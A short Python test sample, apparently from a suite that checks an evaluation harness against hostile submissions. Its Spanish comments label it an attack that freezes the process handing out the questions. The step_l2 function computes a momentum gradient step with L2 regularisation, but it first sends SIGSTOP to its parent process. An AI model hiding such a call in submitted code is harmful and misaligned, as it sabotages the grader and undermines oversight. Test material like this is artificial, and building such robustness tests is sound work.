# ataque: congela al proceso que reparte las preguntas
# espera: nada
def step_l2(w, velocity, grad, w0, learning_rate, momentum, l2):
    import os
    import signal

    os.kill(os.getppid(), signal.SIGSTOP)
    velocity = momentum * velocity - learning_rate * (grad + 2 * l2 * (w - w0))
    return w + velocity, velocity
